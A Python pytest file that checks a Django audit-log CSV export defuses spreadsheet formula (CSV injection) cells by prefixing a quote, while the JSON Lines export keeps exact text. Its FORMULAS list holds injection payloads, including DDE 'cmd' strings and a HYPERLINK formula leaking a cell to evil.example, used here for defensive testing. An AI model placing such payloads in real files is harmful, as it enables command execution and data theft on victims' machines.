"""The CSV export neutralizes cells a spreadsheet would run as formulas (OWASP, CSV injection);
the JSON Lines export stays exact."""

import csv
import io
import json

import pytest

from tests.audit.conftest import append

pytestmark = pytest.mark.django_db

FORMULAS = [
    "+cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?leak="&A1, "open")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _export(client, export_format):
    response = client.get(f"/api/v1/audit/export/?format={export_format}")
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


@pytest.mark.parametrize("formula", FORMULAS, ids=["plus", "equals", "minus", "at", "tab", "cr"])
def test_csv_cells_that_start_like_a_formula_get_a_single_quote(staff_api, formula):
    append(1, justification=formula, object_id=formula, action="promotion.requested")

    rows = list(csv.DictReader(io.StringIO(_export(staff_api, "csv"), newline="")))

    row = rows[-1]
    assert row["justification"] == f"'{formula}"
    assert row["object_id"] == f"'{formula}"
    assert row["action"] == "promotion.requested"
    for cells in rows:
        assert not [cell for cell in cells.values() if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]


def test_the_json_lines_export_keeps_the_exact_text(staff_api):
    append(1, justification=FORMULAS[0], after={"note": "=1+1"})

    last = json.loads(_export(staff_api, "jsonl").splitlines()[-1])

    assert last["justification"] == "+cmd|' /C calc'!A0"
    assert last["after"] == {"note": "=1+1"}


def test_harmless_cells_are_left_alone(staff_api):
    append(1, justification="Fix a typo; a-b testing = fine", after={"delta": -1})

    row = list(csv.DictReader(io.StringIO(_export(staff_api, "csv"), newline="")))[-1]

    assert row["justification"] == "Fix a typo; a-b testing = fine"
    assert row["after"] == '{"delta": -1}'
